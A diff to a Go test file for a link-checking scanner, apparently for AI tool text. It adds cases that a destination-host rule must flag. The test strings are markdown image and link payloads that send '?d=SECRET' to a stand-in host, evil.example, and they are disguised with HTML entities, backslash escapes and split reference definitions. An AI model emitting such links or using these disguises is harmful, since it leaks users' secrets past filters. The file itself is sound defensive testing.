@@ -66,7 +66,8 @@ func TestTextRules(t *testing.T) {
 		{"markdown link elsewhere", "See [the docs](https://evil.example/docs?q=x).", map[string][]string{"MCPG018": {`evil.example ("https://evil.example/docs?q=x")`}}},
 		{"html link elsewhere", `<a href="https://evil.example/">docs</a>`, map[string][]string{"MCPG018": {`evil.example ("https://evil.example/")`}}},
 		{"autolink elsewhere", "<https://evil.example/x>", map[string][]string{"MCPG018": {`evil.example ("https://evil.example/x")`}}},
-		{"a backslash before the @", `[docs](https://api.example.com\@evil.example/)`, nil},
+		// CommonMark reads "\@" as an escaped "@": the link goes to evil.example.
+		{"a backslash before the @", `[docs](https://api.example.com\@evil.example/)`, map[string][]string{"MCPG018": {`evil.example ("https://api.example.com@evil.example/")`}}},
 		{"userinfo is not the host", `[docs](https://api.example.com@evil.example/)`, map[string][]string{"MCPG018": {`evil.example ("https://api.example.com@evil.example/")`}}},
 		{"scheme without slashes", `[docs](https:evil.example/x)`, map[string][]string{"MCPG018": {`evil.example ("https:evil.example/x")`}}},
 	}
@@ -245,4 +246,28 @@ func FuzzTextRules(f *testing.F) {
 			t.Fatalf("SanitizeText(%q) = %q is not UTF-8", s, clean)
 		}
 	})
+}
+
+// TestMarkdownDestinations: a link destination is read as CommonMark reads
+// it before its host is checked — references decoded, backslash escapes
+// removed, a reference definition's URL on the next line, labels matched
+// without case or extra spaces — so none of these reaches another host
+// unflagged.
+func TestMarkdownDestinations(t *testing.T) {
+	for _, tt := range []struct{ name, rule, text string }{
+		{"an entity in the scheme", "MCPG017", "![x](&#104;ttps://evil.example/p.png?d=SECRET)"},
+		{"a backslash-escaped dot in the host", "MCPG017", `![x](https://api.example.com\.evil.example/p.png?d=SECRET)`},
+		{"a definition's URL on the next line", "MCPG017", "![x][r]\n\n[r]:\n  https://evil.example/p.png?d=SECRET"},
+		{"a label spaced otherwise", "MCPG017", "![x][a  b]\n\n[a b]: https://evil.example/p.png"},
+		{"an entity in a link", "MCPG018", "[docs](https://&#101;vil.example/)"},
+	} {
+		if got := ruleHits(tt.text); len(got[tt.rule]) == 0 {
+			t.Errorf("%s: %q not flagged by %s (got %v)", tt.name, tt.text, tt.rule, got)
+		}
+	}
+	for _, own := range []string{"![x](https://api.example.com/p&#46;png)", `[docs](https://api.example.com/a\_b)`} {
+		if got := ruleHits(own); len(got) > 0 {
+			t.Errorf("%q (the API's own host) flagged: %v", own, got)
+		}
+	}
 }
